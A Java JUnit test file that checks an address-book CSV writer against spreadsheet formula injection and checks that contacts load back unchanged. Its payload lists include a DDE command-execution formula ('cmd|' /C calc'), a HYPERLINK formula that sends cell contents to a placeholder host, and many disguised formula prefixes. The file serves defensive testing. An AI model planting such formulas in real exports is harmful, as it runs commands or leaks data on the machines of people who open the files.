package io.github.camelheymarket.examples.addressbook;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.camelheymarket.examples.common.Console;
import io.github.camelheymarket.sandbox.HeymarketSandbox;
import io.github.camelheymarket.sandbox.Seed;
import io.github.camelheymarket.sandbox.settings.Profile;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A file of contacts is safe to open in a spreadsheet, and means the same when it is loaded again. */
class SpreadsheetTest {

    private static final List<String> DANGEROUS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Mara\")",
            "+1 202-555-0143",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)",
            "\t=1+1",
            "\tMara",
            "\r=1+1",
            "\rMara",
            "\nMara",
            " =1+1",
            "\u00A0=1+1",
            "\u200B=1+1",
            "\uFEFF=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "﹦1",
            "﹢1",
            "﹣1",
            "﹫SUM(1)",
            "−1",
            "'=1+1",
            "''=1+1",
            "' =1+1",
            "-5",
            "=");

    private static final List<String> DANGEROUS_BEHIND_A_SEMICOLON = List.of(
            "x;=1+1",
            "VIP;-2+3+cmd|' /C calc'!A0",
            "x\t=1",
            "x; @y",
            "x;'=1",
            "x;;\t+1;",
            "=1;=2;'=3",
            "\t;\t=1",
            " \t=1");

    private static final List<String> HARMLESS = List.of(
            "",
            "Mara",
            "O'Neil",
            "'quoted'",
            "''",
            "'",
            "a=b",
            "1+1",
            "two\rlines",
            "two\r\nlines",
            "two\nlines",
            "a\rb\rc and so on, longer than what a writer may look at",
            "a,b;c\td",
            "say \"hi\"",
            "\"",
            "C:\\new",
            "Zoë 🙂",
            " blanks ");

    @TempDir
    Path folder;

    private final Progress progress = new Progress(console(), ContactsFile.UNKNOWN);

    private static Console console() {
        PrintStream nowhere = new PrintStream(new ByteArrayOutputStream());
        return new Console(nowhere, nowhere, false);
    }

    private static List<String> all() {
        List<String> all = new ArrayList<>(HARMLESS);
        all.addAll(DANGEROUS);
        all.addAll(DANGEROUS_BEHIND_A_SEMICOLON);
        return all;
    }

    private Path write(CellForm form, List<Map<String, ?>> contacts) {
        Path file = folder.resolve("contacts.csv");
        new ContactsWriter(file, progress, CsvFormat.of(form)).write(contacts.iterator());
        return file;
    }

    private List<Map<String, String>> load(Path file, CellForm form) throws IOException {
        List<Map<String, String>> rows = new ArrayList<>();
        try (ContactsFile contacts = new ContactsFile(
                        "contacts.csv", Files.newInputStream(file), ContactsFile.UNKNOWN, CsvFormat.of(form));
                RejectedRows rejected =
                        new RejectedRows(folder.resolve("rejected.csv"), "", progress, CsvFormat.of(form))) {
            contacts.rows(progress, rejected).forEachRemaining(row -> rows.add(Map.copyOf(row)));
            assertThat(rejected.problems()).isEmpty();
        }
        return rows;
    }

    @ParameterizedTest
    @EnumSource(CellForm.class)
    void whatIsWrittenIsReadAgainAsItWas(CellForm form) throws IOException {
        List<Map<String, ?>> contacts = new ArrayList<>();
        all().forEach(value -> contacts.add(new LinkedHashMap<>(Map.of("phone", 12025550143L, "note", value))));

        List<Map<String, String>> read = load(write(form, contacts), form);

        assertThat(read).extracting(row -> row.get("note")).isEqualTo(all());
    }

    @ParameterizedTest
    @EnumSource(CellForm.class)
    void namesOfColumnsAreReadAgainAsTheyWere(CellForm form) throws IOException {
        Map<String, Object> contact = new LinkedHashMap<>();
        all().stream().filter(name -> !name.isBlank()).forEach(name -> contact.put(name, "x"));

        List<Map<String, String>> read = load(write(form, List.of(contact)), form);

        assertThat(read)
                .singleElement()
                .satisfies(row -> assertThat(row.keySet()).isEqualTo(contact.keySet()));
    }

    /** As a spreadsheet opens it: by a reader that knows nothing of the apostrophe. */
    @Test
    void noCellAndNoNameOfAColumnBeginsAFormula() throws IOException {
        Map<String, Object> contact = new LinkedHashMap<>();
        DANGEROUS.forEach(value -> contact.put(value, value));

        Path file = write(CellForm.SPREADSHEET, List.of(contact));

        Map<String, String> row = ProgramRun.read(file).get(0);
        assertThat(row).hasSize(DANGEROUS.size());
        assertThat(row.keySet()).allMatch(name -> name.startsWith("'"));
        assertThat(row.values()).allMatch(cell -> cell.startsWith("'"));
    }

    /** As it opens it where its language separates cells by semicolons. */
    @Test
    void norDoesOneBeginBehindASemicolon() throws IOException {
        List<Map<String, ?>> contacts = new ArrayList<>();
        DANGEROUS_BEHIND_A_SEMICOLON.forEach(value -> contacts.add(Map.of("note", value)));

        Path file = write(CellForm.SPREADSHEET, contacts);

        assertThat(Files.readString(file).split("[;\\t\\n]")).noneMatch(cell -> cell.matches("\"?\\s*[=+@-].*"));
    }

    @Test
    void whatIsNoFormulaHasNoApostropheBeforeIt() throws IOException {
        List<Map<String, ?>> contacts = new ArrayList<>();
        HARMLESS.forEach(value -> contacts.add(Map.of("note", value)));

        Path file = write(CellForm.SPREADSHEET, contacts);

        assertThat(load(file, CellForm.PLAIN))
                .extracting(row -> row.get("note"))
                .isEqualTo(HARMLESS);
    }

    @Test
    void aPhoneFromASpreadsheetLosesItsApostrophe() throws IOException {
        Path file = Files.writeString(folder.resolve("people.csv"), "phone\n'+1 202 555 0143\n");

        assertThat(load(file, CellForm.SPREADSHEET)).containsExactly(Map.of("phone", "+1 202 555 0143"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Mara,=1+1,12", "=1+1", "\"=1+1\",\"a,b\",x", "＝x,12", "'=1+1,\t@x"})
    void aRejectedRowIsNotRunEither(String row) throws IOException {
        Path file = folder.resolve("rejected.csv");
        try (RejectedRows rejected = new RejectedRows(file, "name,=note", progress)) {
            rejected.add(new CsvRow(1, 2, row, Map.of()), "NO_KEY: nothing to match the row by");
        }

        List<String> lines = Files.readAllLines(file);
        assertThat(lines.get(0)).isEqualTo("\"name\",\"'=note\"");
        assertThat(lines.get(1).split(",")).noneMatch(cell -> cell.matches("\"?\\s*[=@＝].*"));
    }

    @Test
    void aRejectedRowThatIsNoCsvIsNotRunEither() throws IOException {
        Path file = folder.resolve("rejected.csv");
        try (RejectedRows rejected = new RejectedRows(file, "name", progress)) {
            rejected.add(new CsvRow(1, 2, "\"Mara\" x,=1+1,\"=2\"", Map.of()), "NOT_CSV: …");
        }

        assertThat(Files.readAllLines(file)).containsExactly("name", "\"Mara\" x,'=1+1,'\"=2\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"+1 (202) 555-0143, Mara", "'+1 202 555 0143,'=1+1"})
    void aRejectedRowWithAPhoneOrWithApostrophesStaysAsItCame(String row) throws IOException {
        Path file = folder.resolve("rejected.csv");
        try (RejectedRows rejected = new RejectedRows(file, "phone,name", progress)) {
            rejected.add(new CsvRow(1, 2, row, Map.of()), "AMBIGUOUS: …");
        }

        assertThat(Files.readAllLines(file)).containsExactly("phone,name", row);
    }

    @Test
    void anAddressBookThatIsListedAndLoadedAgainChangesNobody() throws IOException {
        try (HeymarketSandbox sandbox =
                HeymarketSandbox.builder().profile(Profile.KIND).start()) {
            sandbox.seed(Seed.phone("12025550143").first("=1+1").last("'@Mara"));
            sandbox.seed(Seed.phone("12025550144").first("two\rlines").last("-Okafor"));
            Path start = Files.writeString(folder.resolve("start.csv"), "phone,=note\n12025550145,+7\n");
            ProgramRun first = ProgramRun.on(sandbox, folder, start.toString());
            assertThat(first.exitCode()).isEqualTo(AddressBook.SUCCESS);
            assertThat(Files.readString(first.contactsFile()))
                    .contains("\"'=1+1\"", "\"''@Mara\"", "\"two\rlines\"", "\"'-Okafor\"", "\"'=note\"", "\"'+7\"");
            Path listed = Files.copy(first.contactsFile(), folder.resolve("listed.csv"));

            ProgramRun again = ProgramRun.on(sandbox, folder, listed.toString());

            assertThat(again.exitCode()).isEqualTo(AddressBook.SUCCESS);
            assertThat(again.count("unchanged")).isEqualTo(3);
            assertThat(again.contactsFile()).hasSameTextualContentAs(listed);
        }
    }

    @Test
    void withPlainCellsNothingIsAdded() throws IOException {
        try (HeymarketSandbox sandbox =
                HeymarketSandbox.builder().profile(Profile.KIND).start()) {
            Path file = Files.writeString(folder.resolve("start.csv"), "phone,first\n12025550145,'=1+1\n");

            ProgramRun run = ProgramRun.on(sandbox, folder, file.toString(), "--plain-cells");

            assertThat(run.contacts())
                    .singleElement()
                    .satisfies(contact -> assertThat(contact).containsEntry("first", "'=1+1"));
        }
    }
}
